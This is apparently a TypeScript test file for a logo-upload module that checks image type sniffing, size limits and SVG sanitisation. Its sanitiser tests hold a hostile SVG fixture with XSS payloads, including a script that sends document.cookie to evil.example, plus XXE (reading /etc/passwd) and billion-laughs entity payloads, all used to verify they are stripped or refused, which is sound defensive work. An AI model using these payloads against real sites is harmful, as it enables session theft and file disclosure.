import { BRAND_LIMITS, BrandingMessages as M } from '@dealdraft/domain';
import { createHash } from 'node:crypto';
import { jpegOf, pngOf, SIMPLE_SVG } from '../../test/support/logo-images';
import { AppError } from '../common/errors/app-error';
import { readLogo, sanitizeSvg, sniffLogo } from './logo-file';

/** The refusal's message ("logo: …"), or null when it was read. */
function refusal(bytes: Buffer): string | null {
  try {
    readLogo(bytes);
    return null;
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).httpStatus).toBe(400);
    return (error as AppError).message;
  }
}

const svg = (text: string) => Buffer.from(text, 'utf8');

describe('sniffLogo', () => {
  it('knows PNG, JPEG and SVG by their bytes, whatever they are called', () => {
    expect(sniffLogo(pngOf(2, 2))).toBe('image/png');
    expect(sniffLogo(jpegOf(2, 2))).toBe('image/jpeg');
    expect(sniffLogo(svg(SIMPLE_SVG))).toBe('image/svg+xml');
    expect(
      sniffLogo(
        svg(
          `\uFEFF<?xml version="1.0"?>\n<!-- Illustrator -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${SIMPLE_SVG}`,
        ),
      ),
    ).toBe('image/svg+xml');
  });

  it('knows nothing else: GIF, PDF, HTML, text that mentions <svg> later', () => {
    expect(sniffLogo(Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'))).toBeNull();
    expect(sniffLogo(Buffer.from('%PDF-1.7\n'))).toBeNull();
    expect(sniffLogo(svg(`<html><body>${SIMPLE_SVG}</body></html>`))).toBeNull();
    expect(sniffLogo(svg(`hello ${SIMPLE_SVG}`))).toBeNull();
  });
});

describe('readLogo', () => {
  it('reads a PNG: bytes kept as sent, their sha256, its pixel size', () => {
    const png = pngOf(300, 100);
    const logo = readLogo(png);
    expect(logo).toEqual({
      contentType: 'image/png',
      bytes: png,
      sha256: createHash('sha256').update(png).digest('hex'),
      width: 300,
      height: 100,
    });
  });

  it('reads a JPEG size from its frame header', () => {
    expect(readLogo(jpegOf(640, 480))).toMatchObject({
      contentType: 'image/jpeg',
      width: 640,
      height: 480,
    });
  });

  it('reads an SVG size from width and height, or from its viewBox alone', () => {
    expect(readLogo(svg(SIMPLE_SVG))).toMatchObject({ width: 120, height: 40 });
    expect(
      readLogo(
        svg('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 50"><circle r="4"/></svg>'),
      ),
    ).toMatchObject({ contentType: 'image/svg+xml', width: 200, height: 50 });
  });

  it('refuses, naming the field: empty, too large, another type, too many pixels, unreadable, no size', () => {
    expect(refusal(Buffer.alloc(0))).toBe(`logo: ${M.logoEmpty}`);
    expect(refusal(Buffer.concat([pngOf(1, 1), Buffer.alloc(BRAND_LIMITS.logoBytes)]))).toBe(
      `logo: ${M.logoTooLarge}`,
    );
    expect(M.logoTooLarge).toBe('The logo must be at most 512 KB');
    expect(refusal(Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'))).toBe(`logo: ${M.logoType}`);
    expect(refusal(jpegOf(4001, 10))).toBe(
      'logo: The logo is 4001 × 10 pixels: at most 4000 × 4000 is allowed',
    );
    expect(refusal(jpegOf(4000, 4000))).toBeNull();
    expect(refusal(pngOf(1, 1).subarray(0, 12))).toBe(`logo: ${M.logoUnreadable}`);
    expect(
      refusal(svg('<svg xmlns="http://www.w3.org/2000/svg"><rect width="5" height="5"/></svg>')),
    ).toBe(`logo: ${M.svgNoSize}`);
  });
});

describe('sanitizeSvg', () => {
  const MALICIOUS = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50" onload="alert(1)">
  <script>alert(document.cookie)</script>
  <script type="text/ecmascript"><![CDATA[fetch('https://evil.example/'+document.cookie)]]></script>
  <rect id="box" width="100" height="50" fill="#4f46e5" onclick="alert(2)" onmouseover="alert(3)"/>
  <a href="javascript:alert(4)"><text x="10" y="30">Acme</text></a>
  <a xlink:href="https://evil.example/"><circle r="3"/></a>
  <foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/"></iframe></body></foreignObject>
  <use href="https://evil.example/sprite.svg#icon"/>
  <use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNSk+"/>
  <use href="#box" x="5"/>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <rect width="5" height="5" style="fill: url(https://evil.example/a.svg#g)"/>
  <rect width="5" height="5" style="fill: url(#grad)"/>
  <style>@import url(https://evil.example/x.css); rect { fill: red }</style>
  <animate attributeName="href" to="javascript:alert(6)"/>
  <set attributeName="onmouseover" to="alert(7)"/>
</svg>`;

  const clean = sanitizeSvg(MALICIOUS).toString('utf8');

  it('removes scripts, event handlers and foreignObject', () => {
    expect(clean).not.toMatch(/<script/i);
    expect(clean).not.toMatch(/alert|cookie/);
    expect(clean).not.toMatch(/\son[a-z]+=/i);
    expect(clean).not.toMatch(/foreignObject|iframe|<body/i);
  });

  it('removes every reference outside the file: javascript:, http(s), data:, CSS url() and @import', () => {
    expect(clean).not.toMatch(/javascript:|evil\.example|tracker\.example|data:/);
    expect(clean).not.toMatch(/@import/);
    // What stays inside the file stays: a <use> of its own element, a gradient by fragment.
    expect(clean).toContain('<use href="#box" x="5"></use>');
    expect(clean).toContain('url(#grad)');
    expect(clean).toContain('<text x="10" y="30">Acme</text>');
  });

  it('is still an SVG document with its namespace and size', () => {
    expect(clean.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<svg ')).toBe(true);
    expect(clean).toContain('xmlns="http://www.w3.org/2000/svg"');
    expect(readLogo(Buffer.from(MALICIOUS)).width).toBe(100);
  });

  it('adds the namespace a file left out, so it renders as image/svg+xml', () => {
    const text = sanitizeSvg(
      '<svg width="10" height="10"><rect width="10" height="10"/></svg>',
    ).toString();
    expect(text).toContain('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">');
  });

  it('refuses entity declarations (XXE, billion laughs) instead of parsing them', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&xxe;</text></svg>`;
    expect(refusal(Buffer.from(xxe))).toBe(`logo: ${M.svgEntities}`);
    const laughs = `<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><svg width="1" height="1">&lol2;</svg>`;
    expect(refusal(Buffer.from(laughs))).toBe(`logo: ${M.svgEntities}`);
  });

  it('refuses an SVG that is nothing but what was removed', () => {
    expect(refusal(Buffer.from('<svg width="1" height="1"/><script>alert(1)</script>'))).toBe(
      `logo: ${M.svgEmpty}`,
    );
  });
});
